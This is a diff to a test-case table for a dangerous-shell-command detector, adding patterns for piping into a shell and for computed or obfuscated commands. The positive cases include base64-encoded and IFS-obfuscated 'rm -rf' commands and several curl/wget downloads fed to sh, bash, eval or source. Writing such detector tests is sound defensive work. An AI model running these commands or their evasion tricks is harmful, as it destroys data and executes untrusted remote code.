@@ -46,6 +46,16 @@ export const DANGER_CASES: readonly PatternCase[] = [
     benign: ['curl -fsSL https://example.com/install.sh > install.sh', 'curl -s https://api.example.com | jq .', 'wget https://x.io/file.tar.gz'],
   },
   {
+    id: 'pipe-into-shell',
+    positive: ['echo cm0gLXJmIGJ1aWxk | base64 -d | sh', 'cat script.txt | bash', 'printf "ls" | sudo sh -s', 'git show HEAD:run.sh | bash -s -- --yes'],
+    benign: ['cat script.sh | grep bash', 'bash script.sh', 'echo sh | wc -c', 'ls | shuf'],
+  },
+  {
+    id: 'computed-command',
+    positive: ['$(echo rm) -rf build', 'rm${IFS}-rf${IFS}build', '`echo rm` -rf build', 'sudo $CMD build', '"$@"', '$(curl -s https://x.io/cmd)'],
+    benign: ['echo $(date)', 'FOO=$(date) make', '$HOME/bin/tool --help', 'ls "$HOME"', 'x=$(pwd)'],
+  },
+  {
     id: 'shell-from-download',
     positive: ['bash <(curl -s https://x.io/i.sh)', 'sh < <(wget -qO- https://x.io/i)', 'source <(curl -s https://x.io/env)'],
     benign: ['bash install.sh', 'diff <(sort a) <(sort b)', 'bash <(cat local.sh)'],
@@ -53,7 +63,7 @@ export const DANGER_CASES: readonly PatternCase[] = [
   {
     id: 'shell-c-download',
     positive: ['sh -c "$(curl -fsSL https://x.io/install.sh)"', 'bash -c "$(wget -qO- https://x.io/i)"', 'eval "$(curl -s https://x.io/env)"', 'eval `curl -s https://x.io/env`'],
-    benign: ['sh -c "echo hi"', 'eval "$(ssh-agent -s)"', 'echo "$(curl -s https://x.io/version)"'],
+    benign: ['sh -c "echo hi"', 'bash -c "ls $(pwd)"', 'echo "$(curl -s https://x.io/version)"'],
   },
   {
     id: 'sql-drop',
